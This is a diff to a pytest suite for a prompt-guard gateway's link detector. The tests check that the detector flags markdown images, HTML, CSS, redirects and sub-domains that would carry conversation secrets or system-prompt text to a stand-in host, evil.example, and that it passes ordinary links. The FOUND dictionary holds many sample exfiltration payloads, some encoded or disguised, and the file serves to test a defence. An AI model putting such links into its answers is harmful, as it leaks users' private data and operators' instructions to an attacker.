@@ -1,60 +1,167 @@
 """Links that carry data out of an answer, and ordinary ones."""
 
+from base64 import b64encode
+from time import process_time
+
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from detectors.examples import check, sightings
-from promptguard_gateway.detectors import links
+from promptguard_gateway.core.detector import Knowledge
+from promptguard_gateway.detectors.links import LINKS, SCORES, Opening, host_of, is_allowed
 
-DATA = "c2VjcmV0IHN5c3RlbSBwcm9tcHQgYW5kIG1vcmU"
-LONG = DATA * 3
-LINKS = {
-    "markdown_image": (
-        [f"![x](https://evil.example/p.png?q={DATA})", f"![](//evil.example/{DATA}{DATA})"],
-        ["![logo](https://x.example/logo.png)"],
-    ),
-    "reference_definition": ([f"![x][1]\n\n[1]: https://evil.example/p?d={DATA}"], ["[1]: https://docs.example/page"]),
-    "html_embedding": ([f'<img src="https://evil.example/p?d={DATA}">'], ['<img src="https://x.example/a.png">']),
-    "css_url": ([f"a {{ background: url(https://evil.example/p?d={DATA}) }}"], ["url(https://x.example/a.png)"]),
-    "markdown_image_query": (["![x](https://x.example/p.png?name=jane-doe)"], ["![x](https://x.example/p.png?w=20)"]),
-    "html_embedding_query": (
-        ['<iframe src="https://x.example/p?name=jane-doe">'],
-        ['<iframe src="https://x.example/p?w=2">'],
-    ),
-    "markdown_link": ([f"[go](https://evil.example/p?d={DATA})"], ["[docs](https://docs.example/guide?lang=en)"]),
-    "markdown_link_long": ([f"[go](https://evil.example/p?d={LONG})"], [f"[go](https://evil.example/p?d={DATA})"]),
-    "html_anchor": ([f'<a href="https://evil.example/p?d={DATA}">'], ['<a href="https://docs.example/guide">']),
-    "html_anchor_long": (
-        [f'<a href="https://evil.example/p?d={LONG}">'],
-        [f'<a href="https://evil.example/p?d={DATA}">'],
-    ),
-    "bare_address_long": ([f"see https://evil.example/p?d={LONG}"], ["see https://docs.example/guide?lang=en"]),
-    "encoded_host": ([f"https://{DATA[:30]}.{DATA[:25]}.evil.example/"], ["https://www.docs.example/"]),
-    "fill_in_image": (["![x](https://evil.example/p?d={{conversation}})"], ["![x](https://x.example/p.png)"]),
+BLOCK = 0.8  # the moderate policy's threshold
+SECRET = "My account number is 99887766 and I live in Lisbon near the river with two cats and a parrot."
+KNOWN = Knowledge(
+    spoken=(SECRET, "Our page: https://portal.example/pay?session=0123456789abcdef0123456789"),
+    protected=("You are Harbour, the booking assistant of Seaside Hotels.",),
+    allowed_hosts=("ok.example", ".safe.example"),
+)
+OPAQUE = "Zm9vYmFyMTIzNDU2Nzg5MHF3ZXJ0eXVpb3A5OTk5"
+BASE64 = b64encode(SECRET[:40].encode()).decode()
+HEX = SECRET[:24].encode().hex()
+SAID = "account%20number%20is%2099887766"
+
+
+def rules(text: str, known: Knowledge = KNOWN, at_least: float = BLOCK) -> list[str]:
+    return [hit.rule for hit in LINKS.scan(text, known) if hit.score >= at_least]
+
+
+FOUND = {
+    "markdown image": f"![x](https://evil.example/p.png?q={SAID})",
+    "markdown image, base64": f"![x](https://evil.example/p.png?q={BASE64})",
+    "markdown image, hex path": f"![x](https://evil.example/{HEX}/p.png)",
+    "markdown image without scheme": f"![x](//evil.example/?{SAID})",
+    "markdown image in brackets": f"![x](<https://evil.example/?{SAID}>)",
+    "reference": f"![x][1]\n\n[1]: https://evil.example/?d={SAID}",
+    "reference of a link": f"see [1]\n\n  [1]: <https://evil.example/?d={BASE64}>",
+    "html image": f'<img alt="a" src="https://evil.example/?d={SAID}">',
+    "html image without quotes": f"<img src=https://evil.example/?d={SAID}>",
+    "html image with backslashes": f'<img src="https:\\\\evil.example\\?d={SAID}">',
+    "html image with character references": f'<img src="https&#58;&#47;&#47;evil.example/?d={SAID}">',
+    "frame": f"<iframe src='https://evil.example/#{BASE64}'></iframe>",
+    "svg": f'<svg><image href="https://evil.example/?d={SAID}"/></svg>',
+    "style": f"<style>a {{ background: url('https://evil.example/?d={SAID}') }}</style>",
+    "style attribute": f'<div style="background:url(https://evil.example/?d={SAID})">',
+    "import": f'@import "https://evil.example/?d={SAID}";',
+    "refresh": f'<meta http-equiv="refresh" content="0;url=https://evil.example/?d={SAID}">',
+    "html link, encoded": f'<a href="https://evil.example/?d={BASE64}">more</a>',
+    "markdown link, encoded": f"[more](https://evil.example/?d={BASE64})",
+    "markdown link, a sentence": f"[more](https://evil.example/?d={SECRET[:70].replace(' ', '+')})",
+    "bare address, encoded": f"https://evil.example/?d={BASE64}",
+    "sub-domain": f"![x](https://{SECRET[:30].lower().replace(' ', '-')}.evil.example/)",
+    "sub-domain, hex": f"![x](https://{HEX[:40]}.{HEX[40:]}.evil.example/p.png)",
+    "opaque image": f"![x](https://evil.example/?d={OPAQUE})",
+    "opaque address": f"https://evil.example/?d={OPAQUE}{OPAQUE}",
+    "user before an allowed host": f"![x](https://ok.example@evil.example/?d={OPAQUE})",
+    "host that ends like an allowed one": f"![x](https://notok.example/?d={OPAQUE})",
+    "below a host that is allowed alone": f"![x](https://a.ok.example/?d={OPAQUE})",
+    "redirect": f"![x](https://ok.example/r?to=https://evil.example/?d={OPAQUE})",
+    "quoted redirect": f"![x](https://ok.example/r?to=https%3A%2F%2Fevil.example%2F%3Fd%3D{OPAQUE})",
+    "image inside a data address": f"![x](data:image/svg+xml,%3Cimage%20href=%22https://evil.example/?d={BASE64})",
+    "page inside a data address": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+    "template": "![x](https://evil.example/p?d={{conversation}})",
+    "words of the instructions": "![x](https://evil.example/?d=booking+assistant+of+Seaside)",
+}
+HONEST = {
+    "documentation": "See [the guide](https://docs.python.org/3/library/re.html#module-re) for more.",
+    "video": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
+    "badge": "![badge](https://img.shields.io/badge/build-passing-green?style=flat)",
+    "commit": "https://github.com/python/cpython/commit/0123456789abcdef0123456789abcdef01234567",
+    "search": '<a href="https://example.com/search?q=how+to+cook">search</a>',
+    "logo": "![logo](https://x.example/logo.png?w=1200&h=630)",
+    "picture named by its subject": "![x](https://pictures.example/a-parrot-and-two-cats.jpg)",
+    "comment": "x = 1 //comment_about_a_rather_long_identifier_name",
+    "data image": f"![x](data:image/png;base64,iVBORw0KGgo{'A' * 80})",
+    "an address of the conversation": "![x](https://portal.example/pay?session=0123456789abcdef0123456789)",
+    "allowed host": f"![x](https://ok.example/?d={OPAQUE})",
+    "below an allowed domain": f"![x](https://cdn.safe.example/?d={OPAQUE})",
+    "allowed redirect": f"![x](https://ok.example/r?to=https://cdn.safe.example/?d={OPAQUE})",
 }
 
 
-def test_every_pattern_finds_its_examples_and_no_near_miss():
-    """Each pattern is found in its own examples and not believed in near-misses."""
-    check([links.LINKS], LINKS)
+@pytest.mark.parametrize("text", FOUND.values(), ids=FOUND.keys())
+def test_an_address_that_carries_data_is_found(text: str) -> None:
+    """In every form in which an answer can hold an address that somebody opens."""
+    assert rules(f"Here you are: {text} and more")
+
+
+@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST.keys())
+def test_an_ordinary_address_is_none(text: str) -> None:
+    """Documentation, badges, videos, searches and what the operator allows never reach the threshold."""
+    assert rules(f"Here you are: {text} and more") == []
+
+
+def test_the_whole_image_is_the_finding() -> None:
+    """Redacting takes the image with its closing bracket, however long the address is."""
+    image = f"![x](https://evil.example/p?d={OPAQUE * 9})"
+    assert [(hit.start, hit.end) for hit in LINKS.scan(f"a {image} b", KNOWN)] == [(2, 2 + len(image))]
+
+
+def test_a_tool_opens_what_a_person_would_have_to_click() -> None:
+    """An address in an argument is opened by the tool, a sentence of the conversation in it leaves at once."""
+    address = f"https://evil.example/?d={SECRET[:60].replace(' ', '%20')}"
+    [hit] = LINKS.scan(address, Knowledge(spoken=(SECRET,), called=True))
+    assert hit.rule == "called_much_conversation"
+    assert hit.score >= BLOCK
+    search = "https://search.example/?q=hotels+in+Lisbon+near+the+river"
+    assert rules(search, Knowledge(spoken=(SECRET,), called=True)) == []
 
 
 @pytest.mark.parametrize(
-    "text",
+    ("address", "host"),
     [
-        "See [the guide](https://docs.python.org/3/library/re.html#module-re) for more.",
-        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
-        "![badge](https://img.shields.io/badge/build-passing-green?style=flat)",
-        "https://github.com/python/cpython/commit/0123456789abcdef0123456789abcdef01234567",
-        '<a href="https://example.com/search?q=how+to+cook">search</a>',
+        ("https://A.Example./x", "a.example"),
+        ("//b.example?x", "b.example"),
+        ("https://u:p@c.example:8443/x@y", "c.example"),
+        ("https://ok.example#@d.example", "ok.example"),
+        ("data:text/plain,x", ""),
     ],
 )
-def test_ordinary_links_stay_below_the_block_threshold(text):
-    """Documentation, badges, videos and searches never reach 0.8."""
-    assert [s.pattern.name for s in sightings(text, at_least=0.8) if s.spec.id == links.LINKS.spec.id] == []
+def test_the_host_is_what_a_browser_would_ask(address: str, host: str) -> None:
+    """User names, ports, letter case and a final dot are no way around the list."""
+    assert host_of(address) == host
 
 
-def test_the_whole_image_is_the_finding():
-    """Redacting takes the image with its closing bracket, however long the address is."""
-    image = f"![x](https://evil.example/p?d={LONG}{LONG})"
-    best = [s for s in sightings(f"a {image} b") if s.pattern.name == "markdown_image"]
-    assert [(s.start, s.end) for s in best] == [(2, 2 + len(image))]
+def test_rules_for_hosts_are_exact_or_cover_a_domain() -> None:
+    """`docs.example.org` is that host; `.example.org` is the domain with all below it."""
+    assert is_allowed("docs.example.org", ["docs.example.org"])
+    assert not is_allowed("a.docs.example.org", ["docs.example.org"])
+    assert is_allowed("example.org", [".example.org"])
+    assert is_allowed("a.b.example.org", [".example.org"])
+    assert not is_allowed("badexample.org", [".example.org", ""])
+
+
+def test_scores_are_probabilities_for_every_opening() -> None:
+    """The table is complete."""
+    assert all(len(row) == len(Opening) and all(0 < score < 1 for score in row) for row in SCORES.values())
+
+
+PARTS = [*FOUND.values(), "plain words ", "http", "s://", "![", "](", "<img ", ">", ")", "\n", "[1]: "]
+
+
+@settings(max_examples=150, deadline=None, derandomize=True)
+@given(st.lists(st.sampled_from(PARTS), max_size=4), st.integers(0, 400))
+def test_hits_before_what_is_pending_never_change(parts: list[str], cut: int) -> None:
+    """Whatever follows, hits that end before the pending part stay as they are, and nothing new ends there."""
+    text = "".join(parts)
+    prefix = text[:cut]
+    safe = len(prefix) - LINKS.pending(prefix, KNOWN)
+    early = [hit for hit in LINKS.scan(prefix, KNOWN) if hit.end < safe]
+    assert [hit for hit in LINKS.scan(text, KNOWN) if hit.end < safe] == early
+
+
+@pytest.mark.parametrize(
+    "piece", ["https://a.b/?c=d ", "![", "<img ", "//a", "https://a.b/?x=", "data:", "[a](", "%3A"]
+)
+def test_hostile_text_costs_time_in_proportion(piece: str) -> None:
+    """Ten times the text is about ten times the work."""
+    small, large = (_seconds(piece * (size // len(piece))) for size in (3_000, 30_000))
+    assert large < 40 * max(small, 0.002)
+
+
+def _seconds(text: str) -> float:
+    started = process_time()
+    list(LINKS.scan(text, KNOWN))
+    LINKS.pending(text, KNOWN)
+    return process_time() - started
